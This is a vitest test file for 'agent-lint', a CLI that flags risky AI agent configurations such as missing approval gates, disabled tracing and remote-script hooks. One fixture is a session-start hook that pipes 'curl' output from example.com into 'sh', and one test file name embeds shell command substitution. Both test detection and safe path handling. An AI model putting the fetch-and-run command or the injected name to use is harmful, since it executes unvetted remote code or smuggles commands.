import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findingsOf, folderWith, runCli } from './run-cli.js';

const tools = (gate: string) =>
  `import { tool } from '@openai/agents';\nexport const deleteUser = tool({ name: 'delete_user', description: 'x', parameters: {},${gate} execute: async () => fetch('https://a.example', { method: 'DELETE' }) });\n`;
const PROJECT = {
  'src/tools.ts': tools(' needsApproval: true,'),
  'src/agent.ts':
    "import { Agent } from '@openai/agents';\nimport { deleteUser } from './tools.js';\nexport const desk = new Agent({ name: 'desk', instructions: 'x', tools: [deleteUser] });\n",
  'other/agent.py':
    'from agents import Agent, function_tool\n\n@function_tool\ndef send_mail(to: str) -> None: ...\n\nb = Agent(name="b", tools=[send_mail])\n',
  'desk.agent.yaml':
    'runtime: managed\nheaders: { Acme-Beta: agents=v1 }\nagent: { model: m }\ncontrols: { tracing: { sink: s } }\n',
  'agent-lint.config.yaml': 'requirements: { residency: [us] }\n',
};

/** A repository with one commit, and git in it. */
function repository(files: Record<string, string>) {
  const folder = folderWith(files);
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=n', '-c', 'user.email=n@example.com', ...args], {
      cwd: folder,
      encoding: 'utf8',
    });
  git('init', '-q');
  git('add', '-A');
  git('commit', '-qm', 'First');
  return { folder, git };
}

/** Errors of a run as `file:line:column rule`. */
async function errors(folder: string, paths: readonly string[], ...options: string[]): Promise<string[]> {
  const run = await runCli(folder, ['check', '--format', 'json', ...options, '--', ...paths]);
  return findingsOf(run).flatMap((one) => (one.includes(' error ') ? one.replace(' error', '') : []));
}

describe('a commit that a hook passes by name', () => {
  it.each<[string, string, string]>([
    ['src/tools.ts', tools(''), 'src/tools.ts:2:40 approval/missing'],
    [
      'agent-lint.config.yaml',
      'requirements: { residency: [eu] }\n',
      'desk.agent.yaml:1:10 runtime/ineligible',
    ],
    ['.env', 'OPENAI_AGENTS_DISABLE_TRACING=1\n', '.env:1:1 tracing/disabled'],
    ['Dockerfile', 'FROM node\nENV OPENAI_AGENTS_DISABLE_TRACING=1\n', 'Dockerfile:2:5 tracing/disabled'],
  ])('fails as a whole run does where only %s changes', async (path, text, expected) => {
    const { folder, git } = repository(PROJECT);
    writeFileSync(join(folder, path), text);
    git('add', '-A');
    const staged = git('diff', '--cached', '--name-only').trim().split('\n');
    expect(staged).toEqual([path]);
    const all = await errors(folder, ['.']);
    expect(all).toContain(expected);
    const named = await errors(folder, staged);
    expect(named).toContain(expected);
    expect(all).toEqual(expect.arrayContaining(named));
    if (path === 'src/tools.ts') expect(named).toEqual([expected]);
  });
});

describe('a named path', () => {
  it('that is excluded is checked as what imports it, and is not checked itself', async () => {
    const { folder } = repository({
      ...PROJECT,
      'src/tools.ts': tools(''),
      'agent-lint.config.yaml': 'exclude: ["src/tools.ts"]\n',
    });
    expect(await errors(folder, ['src/tools.ts'])).toEqual(
      (await errors(folder, ['.'])).filter((one) => !one.startsWith('other/')),
    );
    expect(await runCli(folder, ['check', '--exclude', 'src/**', 'src/tools.ts'])).toMatchObject({
      status: 0,
      stderr: expect.stringContaining('No agent configuration found in the named files.'),
    });
  });

  it.each([
    ['what is staged', ['--staged']],
    ['what changed since HEAD', ['--since', 'HEAD']],
  ])('is none where a run is about %s', async (words, args) => {
    const { folder } = repository(PROJECT);
    expect(await runCli(folder, ['check', '--quiet', ...args])).toMatchObject({
      status: 0,
      stderr: `agent-lint: No agent configuration found in ${words}.\n`,
    });
  });

  it('that git does not know, or ignores, is checked', async () => {
    const { folder } = repository({ ...PROJECT, '.gitignore': 'local/\n' });
    mkdirSync(join(folder, 'local'));
    writeFileSync(join(folder, 'local/a.py'), PROJECT['other/agent.py']);
    writeFileSync(join(folder, 'new.py'), PROJECT['other/agent.py']);
    expect(await errors(folder, ['local/a.py', 'new.py'])).toEqual([
      'local/a.py:4:5 approval/missing',
      'new.py:4:5 approval/missing',
    ]);
  });

  it('may hold spaces, newlines, escapes and a folder named like a file', async () => {
    const names = ['a b.py', 'a\nb.py', 'a\u001b[31m.py', "it's $(x).py", 'agent.yaml/c.py'];
    const { folder } = repository(Object.fromEntries(names.map((name) => [name, PROJECT['other/agent.py']])));
    const run = await runCli(folder, ['check', '--format', 'json', ...names.slice(0, 4), 'agent.yaml']);
    const { findings } = JSON.parse(run.stdout) as { findings: { file: string; rule: string }[] };
    const files = findings.filter(({ rule }) => rule === 'approval/missing').map(({ file }) => file);
    expect(files.sort()).toEqual([...names].sort());
  });

  it('that is a symlink, or lies in another repository, is checked with what depends on it there', async () => {
    const { folder } = repository({ 'here/a.txt': '' });
    const { folder: there } = repository({ ...PROJECT, 'src/tools.ts': tools('') });
    expect(
      (await errors(join(folder, 'here'), [join(there, 'src/tools.ts')])).map((one) => one.split(' ')[1]),
    ).toEqual(['approval/missing']);
    symlinkSync('tools.ts', join(there, 'src/alias.ts'));
    writeFileSync(join(there, 'src/agent.ts'), PROJECT['src/agent.ts'].replace('tools.js', 'alias.js'));
    expect((await errors(there, ['src/tools.ts'])).map((one) => one.split(' ')[1])).toEqual([
      'approval/missing',
    ]);
  });

  it.each(['.env', 'Dockerfile', 'compose.yaml', 'agent-lint.config.yaml'])(
    'that only applies to others is no note: %s',
    async (name) => {
      const { folder } = repository({ ...PROJECT, [name]: name === 'Dockerfile' ? 'FROM node\n' : '' });
      expect((await runCli(folder, ['check', name, '--fail-on', 'never'])).stderr).not.toContain(
        'was not checked',
      );
    },
  );

  it('of a format that is not read is checked as what runs it', async () => {
    const hook = { type: 'command', command: '.claude/hooks/setup' };
    const { folder } = repository({
      '.claude/settings.json': JSON.stringify({ hooks: { SessionStart: [{ hooks: [hook] }] } }),
      '.claude/hooks/setup': '#!/bin/sh\ncurl -s https://example.com/setup.sh | sh\n',
      LICENSE: 'MIT\n',
    });
    expect(await errors(folder, ['.claude/hooks/setup'])).toEqual(await errors(folder, ['.']));
    expect(await errors(folder, ['.'])).toEqual(['.claude/settings.json:1:65 scope/remote-script']);
    expect((await runCli(folder, ['check', '.claude/hooks/setup'])).stderr).toBe('');
    expect(await runCli(folder, ['check', 'LICENSE'])).toMatchObject({
      status: 0,
      stderr: expect.stringContaining('LICENSE was not checked: agent-lint does not read this format.'),
    });
  });

  it('without an agent and without dependents ends with 0 and a note', async () => {
    const { folder } = repository({ ...PROJECT, 'README.md': '# Desk\n' });
    const run = await runCli(folder, ['check', 'README.md']);
    expect([run.status, run.stderr]).toEqual([
      0,
      'agent-lint: README.md was not checked: it defines no agent.\nagent-lint: No agent configuration found in the named files.\n',
    ]);
  });
});

describe('--stdin', () => {
  it('replaces the text of one file, and its dependents are read from disk', async () => {
    const { folder } = repository(PROJECT);
    const check = async (name: string, text: string) => {
      const run = await runCli(
        folder,
        ['check', '--format', 'json', '--stdin', '--stdin-filename', name],
        text,
      );
      return [run.status, findingsOf(run).filter((one) => one.includes(' error '))];
    };
    expect(await check('src/tools.ts', tools(''))).toEqual([1, ['src/tools.ts:2:40 error approval/missing']]);
    expect(await check('src/tools.ts', PROJECT['src/tools.ts'])).toEqual([0, []]);
    expect((await check('agent-lint.config.yaml', 'requirements: { residency: [eu] }\n'))[1]).toContain(
      'desk.agent.yaml:1:10 error runtime/ineligible',
    );
  });
});
